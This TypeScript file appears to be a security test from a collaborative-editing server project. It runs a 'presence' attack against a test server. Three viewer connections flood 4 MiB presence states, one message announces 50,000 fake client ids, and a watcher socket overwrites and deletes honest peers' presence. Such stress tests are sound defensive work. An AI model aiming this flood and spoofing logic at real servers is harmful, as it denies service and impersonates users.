/**
 * Presence flood, by anyone holding a viewer link (issue 13, item 2):
 *   - 3 connections send 4 MiB presence states, 10 messages a second in all (round-robin);
 *   - every 2 s one message announces 50,000 fresh client ids at once;
 *   - a fourth connection watches the room's presence, learns the honest peers' client ids and
 *     every second claims each of them: alternately overwriting its state (another name) and
 *     removing it.
 * A connection the server closes comes back (attack-socket.ts). A sender whose socket already
 * holds 8 MiB unsent skips its turn: the attacker never buffers more than the server reads.
 */
import { testToken } from '../../../tests/support/server-process.ts';
import { AttackSocket, AttackTally } from '../attack-socket.ts';
import { encodePresenceMessage, readPresenceMessage } from '../presence-messages.ts';
import type { Attack, AttackTarget, RunningAttack } from '../attack.ts';

const MiB = 1024 * 1024;
const FLOODERS = 3;
const STATE_BYTES = 4 * MiB;
const FLOOD_MESSAGES_PER_SECOND = 10;
const MANY_IDS = 50_000;
const MANY_IDS_EVERY_MS = 2000;
const HIJACK_EVERY_MS = 1000;
const MAX_UNSENT_BYTES = 8 * MiB;

export const presenceAttack: Attack = {
  name: 'presence',
  summary: `viewer token: ${FLOODERS} connections send 4 MiB presence states (${FLOOD_MESSAGES_PER_SECOND} msg/s in all), ${MANY_IDS} client ids in one message every ${MANY_IDS_EVERY_MS / 1000} s, honest peers' presence overwritten and removed every ${HIJACK_EVERY_MS / 1000} s`,
  seconds: 30,
  async start(target: AttackTarget): Promise<RunningAttack> {
    return startPresenceFlood(target);
  },
};

function startPresenceFlood({ server, room }: AttackTarget): RunningAttack {
  const url = `${server.wsUrl}/${room}?token=${encodeURIComponent(testToken(room, 'viewer', 'mallory'))}`;
  const floodTally = new AttackTally();
  const spyTally = new AttackTally();
  const flooders = Array.from({ length: FLOODERS }, () => ({
    socket: new AttackSocket({ url, tally: floodTally }),
    clientId: randomClientId(),
    clock: 0,
  }));
  const honest = new Map<number, number>(); // client id → the newest clock seen
  const spy = new AttackSocket({
    url,
    tally: spyTally,
    onMessage: (data) => {
      for (const entry of readPresenceMessage(data)) {
        const name = (entry.state as { user?: { name?: unknown } } | null | undefined)?.user?.name;
        if (typeof name === 'string' && name.startsWith('honest'))
          honest.set(entry.clientId, Math.max(entry.clock, honest.get(entry.clientId) ?? 0));
      }
    },
  });

  // One 4 MiB state (valid JSON, as a page would send), its text encoded once.
  const head = '{"user":{"name":"mallory"},"pad":"';
  const bigState = Buffer.from(`${head + 'x'.repeat(STATE_BYTES - head.length - 2)}"}`);
  const counts = { floodSent: 0, floodSkipped: 0, manyIdsSent: 0, overwritesSent: 0, removalsSent: 0 };
  let turn = 0;
  const flood = setInterval(() => {
    const f = flooders[turn++ % FLOODERS]!;
    if (!f.socket.isOpen || f.socket.buffered > MAX_UNSENT_BYTES) return void counts.floodSkipped++;
    f.clock++;
    f.socket.send(encodePresenceMessage([{ clientId: f.clientId, clock: f.clock, json: bigState }]));
    counts.floodSent++;
  }, 1000 / FLOOD_MESSAGES_PER_SECOND);

  let manyTurn = 0;
  const manyIds = setInterval(() => {
    const f = flooders[manyTurn++ % FLOODERS]!;
    if (!f.socket.isOpen || f.socket.buffered > MAX_UNSENT_BYTES) return;
    const entries = Array.from({ length: MANY_IDS }, (_, i) => ({
      clientId: randomClientId(),
      clock: 1,
      json: `{"user":{"name":"ghost ${i}"}}`,
    }));
    f.socket.send(encodePresenceMessage(entries));
    counts.manyIdsSent++;
  }, MANY_IDS_EVERY_MS);

  let overwrite = true;
  const hijack = setInterval(() => {
    if (!spy.isOpen || !honest.size) return;
    const entries = [...honest].map(([clientId, clock]) => ({
      clientId,
      clock: clock + 1,
      json: overwrite ? `{"user":{"name":"mallory, not honest"}}` : 'null',
    }));
    for (const e of entries) honest.set(e.clientId, e.clock);
    if (spy.send(encodePresenceMessage(entries))) {
      if (overwrite) counts.overwritesSent += entries.length;
      else counts.removalsSent += entries.length;
    }
    overwrite = !overwrite;
  }, HIJACK_EVERY_MS);

  return {
    async stop() {
      clearInterval(flood);
      clearInterval(manyIds);
      clearInterval(hijack);
      for (const f of flooders) f.socket.stop();
      spy.stop();
      return {
        flood: {
          connections: FLOODERS,
          stateBytes: STATE_BYTES,
          messagesPerSecond: FLOOD_MESSAGES_PER_SECOND,
          sent: counts.floodSent,
          skippedWhileClosedOrBuffered: counts.floodSkipped,
        },
        manyIds: { idsPerMessage: MANY_IDS, everyMs: MANY_IDS_EVERY_MS, sent: counts.manyIdsSent },
        hijack: { honestClientIdsSeen: honest.size, overwritesSent: counts.overwritesSent, removalsSent: counts.removalsSent },
        floodConnections: floodTally.toJSON(),
        watcherConnection: spyTally.toJSON(),
      };
    },
  };
}

/** A Yjs-style client id (a random uint32, as Y.Doc makes them; not crypto: 50,000 at a time must be cheap). */
function randomClientId(): number {
  return 1 + Math.floor(Math.random() * (2 ** 32 - 2));
}
